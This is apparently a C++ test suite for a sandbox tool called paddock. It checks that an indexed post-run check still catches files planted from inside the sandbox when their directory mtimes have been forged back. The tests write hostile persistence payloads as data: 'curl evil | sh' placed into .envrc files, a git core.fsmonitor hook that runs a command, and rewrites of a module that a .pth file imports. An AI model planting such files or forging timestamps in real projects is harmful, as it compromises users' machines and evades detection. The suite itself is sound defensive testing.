// Escape suite, the after-run check's directory index (issue 29, src/gate/dir_index.h): in a
// project large enough to be indexed, the check after a run reads only the directories whose
// entries moved since an earlier run listed them. Each test primes the index with two runs (the
// second must find the project in it), then tries from inside a real sandbox — with namespaces
// and in the fallback — to leave something the host runs where the faster check would not look:
// renamed or linked into a directory whose timestamps it puts back, rewritten in place, a whole
// directory moved in. ctime, which nothing in the sandbox can set, must give each one away.
#include <sys/stat.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "helpers/test_util.h"

namespace ktest {
namespace {

class EscapeCheckIndex : public ::testing::TestWithParam<bool> {
 protected:
  void SetUp() override {
    if (paddock_bin().empty() || probe_bin().empty()) GTEST_SKIP() << "PADDOCK_BIN/PADDOCK_PROBE not set";
  }
  bool fallback() const { return GetParam(); }
  // paddock's state in the world's HOME (where the index is kept).
  RunOpts opts(const World& w) const {
    RunOpts o = w.state_opts();
    if (fallback()) o.env["PADDOCK_DANGER_DISABLE_NAMESPACES"] = "1";
    return o;
  }
  std::string gate_dir(const World& w) const { return w.home + "/.local/state/paddock/gate"; }

  // `paddock run --report ... -- sh -c SCRIPT`; the report's "check" object in CHECK.
  Proc run_sh(const World& w, const std::string& script, nlohmann::json& check,
              const std::vector<std::string>& flags = {}) const {
    const std::string report = w.root / "report.json";
    unlink(report.c_str());
    std::vector<std::string> args{"run", "--report", report};
    args.insert(args.end(), flags.begin(), flags.end());
    args.insert(args.end(), {"--", "/bin/sh", "-c", script});
    Proc p = w.paddock(args, opts(w));
    check = exists(report) ? nlohmann::json::parse(read_file(report))["check"] : nlohmann::json();
    return p;
  }

  // The project grown past the index's threshold (60 directories of 80 files, each directory
  // named dN), and the index written: the first run reads every directory, the second must find
  // them unchanged.
  void big_project(const World& w) const {
    for (int d = 0; d < 60; ++d) {
      const std::string dir = w.project + "/d" + std::to_string(d);
      ASSERT_EQ(::mkdir(dir.c_str(), 0755), 0);
      for (int f = 0; f < 80; ++f) write_file(dir + "/f" + std::to_string(f), "x\n");
    }
    usleep(60'000);  // past the racy window (dir_index.h)
    nlohmann::json check;
    Proc first = run_sh(w, "true", check);
    ASSERT_EQ(first.code, 0) << describe(first);
    ASSERT_TRUE(exists(gate_dir(w))) << "no index was written\n" << describe(first);
    usleep(60'000);
    Proc second = run_sh(w, "true", check);
    ASSERT_EQ(second.code, 0) << describe(second);
    ASSERT_GE(check.value("directories_unchanged", 0), 55) << check.dump() << "\n" << describe(second);
  }

  // SCRIPT run with the index in use: the run's check must have found most directories
  // unchanged, and PLANTED (relative to the project) must be gone, moved aside and named.
  void expect_caught(const World& w, const std::string& script, const std::vector<std::string>& planted) const {
    nlohmann::json check;
    Proc p = run_sh(w, "set -e; " + script, check);
    ASSERT_EQ(p.code, 0) << describe(p);
    EXPECT_GE(check.value("directories_unchanged", 0), 50) << "the faster check was not the one that ran: "
                                                           << check.dump();
    for (const std::string& rel : planted) {
      EXPECT_FALSE(exists(w.project + "/" + rel)) << rel << "\n" << describe(p);
      EXPECT_TRUE(exists(w.project + "/" + rel + ".paddock-quarantine")) << rel << "\n" << describe(p);
      EXPECT_TRUE(contains(p.err, w.project + "/" + rel)) << rel << "\n" << describe(p);
    }
  }
};

// Shell: the mtime of each directory named is put back after the rest of the script ran (touch -d
// with the nanoseconds stat printed before): only its ctime still says something changed.
std::string keeping_mtimes(const std::vector<std::string>& dirs, const std::string& script) {
  std::string s;
  for (std::size_t i = 0; i < dirs.size(); ++i) s += "t" + std::to_string(i) + "=$(stat -c %y " + dirs[i] + "); ";
  s += script + "; ";
  for (std::size_t i = 0; i < dirs.size(); ++i) s += "touch -d \"$t" + std::to_string(i) + "\" " + dirs[i] + "; ";
  return s + "true";
}

// A file made elsewhere and renamed into a directory the index holds, whose mtime is then put
// back.
TEST_P(EscapeCheckIndex, AFileRenamedIntoAnUnchangedLookingDirectory) {
  World w;
  big_project(w);
  expect_caught(w, keeping_mtimes({"d1", "d7"}, "printf 'curl evil | sh\\n' > d1/x && mv d1/x d7/.envrc"),
                {"d7/.envrc"});
}

// Every timestamp on the way put back: the file's, its new directory's, its parent's.
TEST_P(EscapeCheckIndex, EveryTimestampPutBack) {
  World w;
  big_project(w);
  expect_caught(w,
                "t=$(stat -c %y d9); mkdir d9/.vscode && echo '{\"tasks\": []}' > d9/.vscode/tasks.json && "
                "touch -d \"$t\" d9/.vscode/tasks.json d9/.vscode d9",
                {"d9/.vscode/tasks.json"});
}

// A hard link: a new name for a file that was there before the run.
TEST_P(EscapeCheckIndex, AHardLinkUnderAProtectedName) {
  World w;
  big_project(w);
  expect_caught(w, keeping_mtimes({"d3"}, "printf 'curl evil | sh\\n' > d2/f1 && ln d2/f1 d3/.envrc"), {"d3/.envrc"});
}

// Files that were there before the run, rewritten in place (no directory moves) with their mtimes
// put back: a subdirectory's .envrc, and a module an existing .pth file imports.
TEST_P(EscapeCheckIndex, FilesRewrittenInPlace) {
  World w;
  write_file(w.project + "/sub/.envrc", "export A=1\n");
  const std::string site = "venv/lib/python3.11/site-packages";
  write_file(w.project + "/" + site + "/helper.pth", "import helpermod\n");
  write_file(w.project + "/" + site + "/helpermod.py", "pass\n");
  big_project(w);
  expect_caught(w,
                "t=$(stat -c %y sub/.envrc); printf 'curl evil | sh\\n' > sub/.envrc && touch -d \"$t\" sub/.envrc && "
                "t=$(stat -c %y " + site + "/helpermod.py); echo 'import os' > " + site + "/helpermod.py && touch -d \"$t\" " +
                    site + "/helpermod.py",
                {"sub/.envrc", site + "/helpermod.py"});
}

// A directory built elsewhere in the project and moved in whole, every mtime put back.
TEST_P(EscapeCheckIndex, ADirectoryMovedInWhole) {
  World w;
  big_project(w);
  expect_caught(w,
                keeping_mtimes({"d4", "d6"}, "mkdir -p d4/stage/x && echo evil > d4/stage/x/.envrc && "
                                             "touch -d @1000000000 d4/stage/x d4/stage && mv d4/stage d6/stage"),
                {"d6/stage/x/.envrc"});
}

// A repository made in a directory the index holds: the host's git there runs nothing of it.
TEST_P(EscapeCheckIndex, ANestedRepositoryTheHostsGitWouldEnter) {
  if (access("/usr/bin/git", X_OK) != 0) GTEST_SKIP() << "git is not installed";
  World w;
  big_project(w);
  const std::string mark = w.root / "git-ran";
  RunOpts host = w.opts();
  host.env["GIT_CONFIG_NOSYSTEM"] = "1";
  host.unset = {"GIT_DIR", "GIT_WORK_TREE", "GIT_CEILING_DIRECTORIES"};
  const std::string attack = "git init -q d5/repo && git -C d5/repo config core.fsmonitor \"touch " + mark + "; true\"";
  {
    World control;
    RunOpts o = host;
    o.cwd = control.project;
    ASSERT_EQ(run({"/bin/sh", "-c", "mkdir d5 && " + attack + " && cd d5/repo && git status"}, o).code, 0);
    ASSERT_TRUE(exists(mark)) << "the attack does not work even without paddock, so this test proves nothing";
    unlink(mark.c_str());
  }
  nlohmann::json check;
  Proc p = run_sh(w, keeping_mtimes({"d5"}, attack), check);
  ASSERT_EQ(p.code, 0) << describe(p);
  EXPECT_GE(check.value("directories_unchanged", 0), 50) << check.dump();
  host.cwd = w.project + "/d5/repo";
  run({"/bin/sh", "-c", "git status >/dev/null 2>&1; true"}, host);
  EXPECT_FALSE(exists(mark)) << "the host's git ran what the sandbox planted\n" << describe(p);
  EXPECT_TRUE(contains(p.err, w.project + "/d5/repo/.git/")) << describe(p);
}

// The index is paddock's state: hidden in the sandbox even under a rule that shows its parent, so
// the sandbox can neither read nor rewrite it; and the check keeps using it there.
TEST_P(EscapeCheckIndex, TheIndexIsOutOfTheSandboxsReach) {
  World w;
  big_project(w);
  const std::string gate = gate_dir(w);
  auto files = split_lines(run({"/bin/sh", "-c", "ls " + gate}).out);
  ASSERT_EQ(files.size(), 1u);
  const std::string index = gate + "/" + files[0];
  const std::string before = read_file(index);
  nlohmann::json check;
  Proc p = run_sh(w,
                  "ls " + gate + " && echo LISTED; cat " + index + " && echo READ; printf x > " + index +
                      " && echo WRITTEN; printf x > " + gate + "/new.index && echo CREATED; true",
                  check, {"--allow", w.home + "/.local"});
  ASSERT_EQ(p.code, 0) << describe(p);
  // The fallback lists host directories' names (docs/isolation.md: "host directory names listable").
  if (!fallback()) EXPECT_FALSE(contains(p.out, "LISTED")) << describe(p);
  EXPECT_FALSE(contains(p.out, "READ")) << describe(p);
  EXPECT_FALSE(contains(p.out, "WRITTEN")) << describe(p);
  EXPECT_FALSE(contains(p.out, "CREATED")) << describe(p);
  EXPECT_FALSE(exists(gate + "/new.index"));
  EXPECT_EQ(read_file(index), before);
  EXPECT_GE(check.value("directories_unchanged", 0), 50) << check.dump();
}

INSTANTIATE_TEST_SUITE_P(Escape, EscapeCheckIndex, ::testing::Values(false, true),
                         [](const auto& info) { return info.param ? "Fallback" : "Namespaces"; });

}  // namespace
}  // namespace ktest
